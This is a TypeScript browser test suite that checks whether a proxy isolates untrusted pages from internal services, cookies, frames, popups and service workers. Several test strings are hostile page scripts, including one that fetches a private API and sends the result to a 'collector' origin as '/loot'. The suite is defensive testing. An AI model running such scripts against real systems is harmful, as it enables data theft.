/** Embedded-host mode in a browser: what strangers' pages try, and what pages need. */
import assert from 'node:assert/strict';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { after, before, beforeEach, describe, test } from 'node:test';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { resolveConfig } from '../../src/config.ts';
import { type RunningServer, startServer } from '../../src/server/main.ts';
import { type TestOrigin, startOrigin } from '../kit/origin.ts';
import { launchChromium, noBrowser } from './chromium.ts';

const LIMIT_MS = 60_000;
const GIF = Buffer.from('R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==', 'base64');

/** A small application: a page with an image, a style, a script, a fetch to its own host, and a log-in. */
function application({ method, url = '', headers }: IncomingMessage, response: ServerResponse): void {
  const send = (type: string, body: string | Buffer): void => void response.writeHead(200, { 'Content-Type': type }).end(body);
  switch (url.split('?')[0]) {
    case '/login':
      if (method === 'POST') return void response.writeHead(303, { 'Set-Cookie': '__Http-session=alice; Path=/; HttpOnly; Secure; SameSite=Lax', Location: '/' }).end();
      return send('text/html', '<form method="post" action="login"><button id="in">Log in</button></form>');
    case '/style.css':
      return send('text/css', 'body { background: rgb(1, 2, 3) }');
    case '/app.js':
      return send('text/javascript', `fetch('data').then((answer) => answer.text()).then((text) => { document.body.dataset.data = text; });`);
    case '/data':
      return send('text/plain', `for ${/(?:^|; )__Http-session=(\w+)/.exec(headers.cookie ?? '')?.[1] ?? 'nobody'}`);
    case '/i.gif':
      return send('image/gif', GIF);
    default:
      // As helmet does: https://helmetjs.github.io/#referrer-policy
      response.setHeader('Referrer-Policy', 'no-referrer');
      return send('text/html', '<link rel="stylesheet" href="/style.css"><img src="/i.gif"><img src="i.gif?2"><a id="next" href="/next">next</a><script src="app.js"></script>');
  }
}

describe('embedded hosts in a browser', { skip: noBrowser }, () => {
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let proxy: RunningServer;
  let app: TestOrigin;
  let evil: TestOrigin;
  let inner: TestOrigin;
  let collector: TestOrigin;
  /** What stands in the body of a page of the stranger's. */
  let lure = '';
  before(async () => {
    [app, inner, collector, evil] = await Promise.all([
      startOrigin(application),
      startOrigin((_, response) => void response.writeHead(200, { 'Content-Type': 'text/plain', 'Cache-Control': 'max-age=60' }).end('SECRET')),
      startOrigin((_, response) => void response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end()),
      startOrigin((request, response) => {
        if (request.url === '/lure') response.writeHead(302, { Location: `http://localhost:${proxy.port}/${host(evil)}/p` }).end();
        else if (request.url === '/led') response.writeHead(302, { Location: `http://${host(inner)}/private-api` }).end();
        else response.writeHead(200, { 'Content-Type': 'text/html' }).end(lure);
      }),
    ]);
    proxy = await startServer(resolveConfig({ port: 0 }));
    browser = await launchChromium();
  });
  after(async () => {
    await browser.close();
    await proxy.close();
    await Promise.all([app, inner, collector, evil].map((each) => each.close()));
  });
  beforeEach(async () => {
    await context?.close();
    context = await browser.newContext();
    page = await context.newPage();
    page.setDefaultTimeout(LIMIT_MS);
  });

  const host = ({ port }: TestOrigin): string => `127.0.0.1:${port}`;
  const embedded = (origin: TestOrigin, path = '/'): string => `http://localhost:${proxy.port}/${host(origin)}${path}`;
  /** Runs a script on a page of the stranger's, which its user has opened. */
  const onEvilPage = async <Result>(script: string): Promise<Result> => {
    lure = '<p>hello</p>';
    await page.goto(embedded(evil));
    return page.evaluate<Result>(script);
  };
  const read = (path: string, init = ''): string => `fetch(${JSON.stringify(path)}${init}).then((answer) => answer.text(), String)`;

  describe("a stranger's page", () => {
    test('that sends the browser to itself under the proxy does not run there', async () => {
      lure = `<script>fetch('/http://${host(inner)}/private-api').then((answer) => answer.text()).then((text) => fetch('http://${host(collector)}/loot?' + text))</script>`;
      const [innerSeen, evilSeen] = [inner.requests.length, evil.requests.length];
      await page.goto('about:blank');
      // Another site of which the user follows a link.
      const landing = `http://127.0.0.1:${evil.port}/lure`;
      await page.setContent(`<a id="go" href="${landing}">go</a>`);
      await page.click('#go');
      await page.waitForURL(embedded(evil, '/p'));
      assert.match((await page.textContent('body'))!, /Another web page leads to/);
      assert.deepEqual(evil.requests.slice(evilSeen).map(({ url }) => url), ['/lure']);
      // Even where the user goes on: it runs, and reads nothing.
      const answered = page.waitForResponse((response) => response.url().includes('private-api'));
      await page.click('a');
      assert.equal((await answered).status(), 403);
      assert.equal(inner.requests.length, innerSeen);
    });

    test('reads no internal service, in any spelling and with any Referer', async () => {
      const seen = inner.requests.length;
      const paths = [`/${host(inner)}/private-api`, `/http://${host(inner)}/private-api`, `/http:/${host(inner)}/private-api`, `/localhost:${inner.port}/private-api`];
      for (const path of paths) {
        for (const init of ['', ", { referrerPolicy: 'no-referrer' }", `, { referrer: '${path}' }`, ", { cache: 'force-cache' }"]) {
          const text = await onEvilPage<string>(read(path, init));
          assert.doesNotMatch(text, /SECRET/);
          // Its own path can be made up as well.
          assert.doesNotMatch(await page.evaluate<string>(`(history.replaceState(null, '', ${JSON.stringify(path)}), ${read(path, init)})`), /SECRET/);
        }
      }
      assert.equal(inner.requests.length, seen);
    });

    test('reads none by a frame or a window', async () => {
      const seen = inner.requests.length;
      const paths = [`/${host(inner)}/x`, `/.millrace/led/http://${host(inner)}/x`];
      for (const path of paths) {
        const framed = await onEvilPage<string>(`new Promise((resolve) => { const frame = document.createElement('iframe'); frame.src = ${JSON.stringify(path)}; frame.onload = () => { try { resolve(frame.contentDocument?.body.textContent ?? 'none'); } catch { resolve('none'); } }; document.body.append(frame); })`);
        assert.doesNotMatch(framed, /SECRET/);
        const opening = page.waitForEvent('popup');
        await page.evaluate(`(window.shown = open(${JSON.stringify(path)}), undefined)`);
        const popup = await opening;
        popup.setDefaultTimeout(LIMIT_MS);
        await popup.waitForLoadState();
        assert.match((await popup.textContent('body'))!, /Another web page leads to/);
        // The page that asks is out of its reach, and so is what comes when its user goes on.
        const reach = `(() => { try { return String(window.shown.document?.body.textContent); } catch (error) { return error.name; } })()`;
        assert.equal(await page.evaluate(reach), 'SecurityError');
        await popup.click('a');
        await popup.waitForURL((url) => !url.pathname.startsWith('/.millrace/'));
        assert.equal(await popup.textContent('body'), 'SECRET');
        assert.doesNotMatch(await page.evaluate<string>(reach), /SECRET/);
        await popup.close();
        await context.clearCookies();
      }
      // Its users' own requests, the icons of their pages among them.
      assert.ok(inner.requests.length - seen <= 2 * paths.length);
    });

    test('that the user opened does not open another host by a redirect', async () => {
      await page.goto(embedded(evil, '/led'));
      assert.match((await page.textContent('body'))!, /Another web page leads to/);
      assert.doesNotMatch(await onEvilPage<string>(read(`/${host(inner)}/x`, `, { referrer: '/${host(inner)}/' }`)), /SECRET/);
    });

    test('gets no cookies of other services on localhost', async () => {
      await context.addCookies([
        { name: 'devsession', value: 'SECRET-OF-LOCALHOST', url: `http://localhost:${app.port}`, httpOnly: true, sameSite: 'Lax' },
        { name: 'plain', value: 'SECRET2', url: `http://localhost:${app.port}` },
      ]);
      lure = 'hello';
      await page.goto(embedded(evil, '/collect'));
      const last = evil.requests.at(-1)!;
      assert.equal(last.url, '/collect');
      assert.equal(last.headers.get('cookie'), undefined);
    });

    test('sets no cookies for other hosts', async () => {
      await onEvilPage(`for (const cookie of ['sid=x; path=/', 'millrace~http~127.0.0.1~${app.port}~sid=x; path=/', 'millrace-opened~http~127.0.0.1~${inner.port}=AAAAAAAAAAAAAAAAAAAAAA; path=/']) document.cookie = cookie`);
      assert.doesNotMatch(await page.evaluate<string>(read(`/${host(inner)}/x`, `, { referrer: '/${host(inner)}/' }`)), /SECRET/);
      await page.goto(embedded(app));
      assert.equal(app.requests.findLast(({ url }) => url === '/')!.headers.get('cookie'), undefined);
    });

    test('installs no service worker', async () => {
      assert.match(await onEvilPage<string>(`navigator.serviceWorker.register('/${host(evil)}/sw.js').then(() => 'installed', String)`), /403|failed/i);
    });
  });

  describe("a page that the user typed", () => {
    test('has its images, style, script and fetch, below its host or at its root', async () => {
      await page.goto(embedded(app));
      await page.waitForFunction('document.body.dataset.data !== undefined');
      assert.equal(await page.evaluate('document.body.dataset.data'), 'for nobody');
      assert.equal(await page.evaluate('getComputedStyle(document.body).backgroundColor'), 'rgb(1, 2, 3)');
      assert.deepEqual(await page.evaluate(`[...document.images].map((image) => image.naturalWidth)`), [1, 1]);
      await page.click('#next');
      await page.waitForURL(embedded(app, '/next'));
      await page.reload();
      await page.waitForFunction('document.body.dataset.data !== undefined');
    });

    test('lets its user log in', async () => {
      await page.goto(embedded(app, '/login'));
      await page.click('#in');
      await page.waitForURL(embedded(app));
      await page.waitForFunction('document.body.dataset.data !== undefined');
      assert.equal(await page.evaluate('document.body.dataset.data'), 'for alice');
    });

    test('shows what a link of another site leads to, once its user goes on', async () => {
      await page.goto(`http://${host(app)}/`);
      await page.setContent(`<a id="go" href="${embedded(app)}">go</a>`);
      await page.click('#go');
      await page.waitForURL(embedded(app));
      await page.click('a');
      await page.waitForFunction('document.body.dataset.data !== undefined');
      assert.equal(page.url(), embedded(app));
      assert.deepEqual(await page.evaluate(`[...document.images].map((image) => image.naturalWidth)`), [1, 1]);
    });
  });
});
